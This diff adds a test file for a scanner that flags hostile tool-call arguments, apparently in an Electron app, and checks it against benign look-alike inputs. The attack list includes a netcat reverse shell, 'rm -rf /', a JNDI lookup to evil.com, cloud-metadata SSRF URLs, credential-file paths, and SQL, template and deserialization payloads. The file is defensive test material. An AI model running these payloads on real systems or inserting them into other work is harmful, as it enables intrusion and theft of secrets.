@@ -1,0 +1,98 @@
+import { describe, expect, it } from 'vitest';
+import { scanRow } from '../../../electron/core/risk/texts.js';
+
+/** Values that attack what a tool hands them to, by the families that testers of web applications know. */
+const attacks = [
+  '{"path":"/root/.ssh/authorized_keys"}',
+  '{"file":"C:\\\\Windows\\\\System32\\\\config\\\\SAM"}',
+  '..\\..\\..\\windows\\win.ini',
+  '..%2f..%2f..%2fetc%2fpasswd',
+  '{"cmd":"ls && rm -rf /"}',
+  '{"name":"x; nc 10.0.0.1 4444 -e /bin/sh"}',
+  '`id`',
+  '$(whoami)',
+  '| cat /etc/shadow',
+  '1; DROP TABLE users',
+  "' OR 1=1 --",
+  '" OR ""="',
+  "admin'--",
+  '{"q":"1 UNION ALL SELECT username,password FROM users"}',
+  '{{7*7}}',
+  '${7*7}',
+  '${jndi:ldap://evil.com/a}',
+  '<%= system("id") %>',
+  'http://127.0.0.1:22',
+  'http://[::1]/',
+  'http://2130706433/',
+  'http://169.254.170.2/v2/credentials',
+  'http://100.100.100.200/latest/meta-data',
+  'http://localhost:2375/containers/json',
+  'file:///etc/passwd',
+  'dict://127.0.0.1:11211/',
+  'ldap://evil.com/x',
+  'http://192.168.0.1/admin',
+  'http://metadata/computeMetadata/v1/',
+  'http://internal-api.corp.internal/secrets',
+  '{"role":"administrator"}',
+  '{"isAdmin":true}',
+  '{"permissions":["*"]}',
+  '{"user_id":"0","sudo":true}',
+  '{"command":"chmod 777 /etc/passwd"}',
+  '{"command":"sudo cat /etc/shadow"}',
+  '{"command":"kubectl get secrets -A"}',
+  '{"command":"docker run --privileged -v /:/host alpine"}',
+  '{"command":"echo x >> ~/.bashrc"}',
+  'rO0ABXNyABdqYXZhLnV0aWwuUHJpb3JpdHlRdWV1ZQ==',
+  '{"__proto__":{"admin":true}}',
+  '{"constructor":{"prototype":{"x":1}}}',
+  '!!python/object/apply:os.system ["id"]',
+  '<!DOCTYPE foo [<!ENTITY xxe SYSTEM "file:///etc/passwd">]>',
+  '/etc/kubernetes/admin.conf',
+  '/var/run/secrets/kubernetes.io/serviceaccount/token',
+  '~/.config/gcloud/credentials.db',
+  '/home/u/.git-credentials',
+  '{"env":"printenv AWS_SECRET_ACCESS_KEY"}',
+  '%00',
+  'file.txt%00.jpg',
+  '--upload-pack=touch /tmp/x',
+  '-oProxyCommand=sh',
+  '*) (uid=*))(|(uid=*',
+  '{"$gt":""}',
+  '{"$where":"sleep(1000)"}',
+];
+const everyday = [
+  '{"path":"/home/user/project/.env.example"}',
+  '{"query":"how to reset password"}',
+  '{"sql":"SELECT id FROM users WHERE name = \'O\\\'Brien\'"}',
+  '{"cmd":"npm test && npm run build"}',
+  '{"cmd":"git log | head -5"}',
+  '{"url":"https://example.com/?redirect=https%3A%2F%2Fa.example"}',
+  '{"text":"Meet at 10:30; bring the slides"}',
+  '{"role":"admin_viewer"}',
+  '{"template":"Hi {{name}}"}',
+  '{"price":"$7*7"}',
+  '{"path":"../src/index.ts"}',
+  '{"path":"docs/etc/passwd-policy.md"}',
+  '{"command":"docker run alpine echo hi"}',
+  '{"command":"python script.py --verbose"}',
+  '{"filter":{"age":{"$gt":18}}}',
+  '{"branch":"feature/root-cause"}',
+  '{"message":"Union select committee meets"}',
+  '{"url":"https://api.internal-tools.example.com/v1"}',
+  '{"html":"<!DOCTYPE html><p>hi</p>"}',
+  '{"note":"drop table lamp order"}',
+  '{"email":"admin@example.com"}',
+  '{"code":"const a = `id: ${x}`;"}',
+  '{"content":"Set your API_KEY in the environment"}',
+  '{"args":["-la","--color"]}',
+];
+const verdictOf = (text: string) => scanRow({ id: 0, text, surface: 'tool_args' }).verdict;
+
+describe('arguments of a call', () => {
+  it.each(attacks)('are pointed out where they attack: %s', (text) => {
+    expect(verdictOf(text)).not.toBe('clean');
+  });
+  it.each(everyday)('are left alone where they only look like it: %s', (text) => {
+    expect(verdictOf(text)).toBe('clean');
+  });
+});
